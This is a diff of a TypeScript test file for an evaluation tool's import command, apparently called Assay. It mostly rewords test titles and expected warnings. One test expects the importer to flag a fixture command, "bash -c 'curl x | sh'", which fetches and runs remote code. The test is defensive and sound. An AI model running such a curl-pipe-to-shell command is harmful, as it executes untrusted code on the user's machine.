@@ -94,26 +94,26 @@ const at = (name: string) => join(folder.path, name);
 const run = (...args: string[]) => assay(folder.path, args);
 const into = (name: string) => ["--to", at(name)];
 
-it("a command of a file is shown in full, and only promptfoo has them", async () => {
+it("assay import shows a promptfoo command in full and takes no command from Inspect", async () => {
   const { code, stderr } = await run("import", "promptfoo", "exec.json", ...into("exec"));
   expect(code).toBe(0);
   expect(stderr).toContain(
     "asked by the command \"bash -c 'curl x | sh'\": check that you trust it",
   );
   const inspect = await run("import", "inspect", "inspect-exec.json", ...into("inspect-exec"));
-  expect(inspect.stderr).toContain("is no provider that Assay knows");
+  expect(inspect.stderr).toContain("is not a provider that Assay knows");
   expect(readFileSync(at("inspect-exec/assay.yaml"), "utf8")).not.toContain("exec:");
 });
 
-it("a variable that a file names for a key is shown", async () => {
+it("assay import warns of the variable that a file reads a key from", async () => {
   const { stderr } = await run("import", "promptfoo", "key.json", ...into("key"));
   expect(stderr).toContain(
-    "its key is read from the variable GITHUB_TOKEN: check that it is meant",
+    "its key is read from the variable GITHUB_TOKEN: check that this is intended",
   );
 });
 
 it.each(["choices.json", "assert.json", "deep.json"])(
-  "%s is refused, or read, without an unexpected error",
+  "assay import reads or refuses %s without an unexpected error",
   async (name) => {
     const tool = name === "choices.json" ? "inspect" : "promptfoo";
     const { stderr } = await run("import", tool, name, ...into(`odd-${name}`));
@@ -121,13 +121,13 @@ it.each(["choices.json", "assert.json", "deep.json"])(
   },
 );
 
-it("NaN within strings stays, outside it is null, in one pass", async () => {
+it("assay import reads a bare NaN as null and keeps NaN in strings", async () => {
   const { code } = await run("import", "inspect", "nan.json", ...into("nan"));
   expect(code).toBe(0);
   expect(readFileSync(at("nan/samples.jsonl"), "utf8")).toContain("NaN");
 });
 
-it("names of graders reach the terminal without control characters, and no input is overwritten", async () => {
+it("assay import strips control characters from grader names and overwrites no input", async () => {
   const { stderr } = await run("import", "openai-evals", "items.jsonl", "--out", "items.out.jsonl");
   expect(stderr).toContain("grader");
   expect(/\p{Cc}/u.test(stderr.replaceAll("\n", ""))).toBe(false);
@@ -144,7 +144,7 @@ it("names of graders reach the terminal without control characters, and no input
   expect(readFileSync(at("eval.json"), "utf8")).toContain("testing_criteria");
 });
 
-it("long lists of graders with long names are cut", async () => {
+it("assay import shortens long lists of graders with long names", async () => {
   const { code, stderr } = await run(
     "import",
     "openai-evals",
@@ -157,7 +157,7 @@ it("long lists of graders with long names are cut", async () => {
   expect(stderr.length).toBeLessThan(50_000);
 });
 
-it("an import writes all of its files, or none", async () => {
+it("assay import writes all of its files or none", async () => {
   const before = readdirSync(folder.path);
   const bad = await run("import", "inspect", "call.json", ...into("none"));
   expect([bad.code, bad.stderr]).toEqual([
@@ -171,7 +171,7 @@ it("an import writes all of its files, or none", async () => {
   expect(readdirSync(folder.path)).toEqual(before);
 });
 
-it("a log is read once, so that it can be a pipe", () => {
+it("assay import reads a log from a pipe", () => {
   const piped = 'cat "$0" | "$1" "$2" import promptfoo /dev/stdin --to "$3"';
   const names = [at("key.json"), process.execPath, launcher, at("piped")];
   const { status, stderr } = spawnSync("sh", ["-c", piped, ...names], { encoding: "utf8" });
@@ -179,7 +179,7 @@ it("a log is read once, so that it can be a pipe", () => {
   expect(existsSync(at("piped/assay.yaml"))).toBe(true);
 });
 
-it("samples and answers are two files", async () => {
+it("assay import refuses one file for both samples and answers", async () => {
   const { code, stderr } = await run(
     "import",
     "promptfoo",
@@ -207,7 +207,7 @@ it.each<[args: string[], message: string]>([
   expect(existsSync(at("good.json"))).toBe(true);
 });
 
-it("a file of YAML is bounded", async () => {
+it("assay dataset rules refuses files above 1 MB", async () => {
   const { code, stderr } = await run("dataset", "rules", "schema.json", "--rules", "large.json");
   expect([code, stderr]).toEqual([2, expect.stringContaining("larger than 1 MB")]);
 });
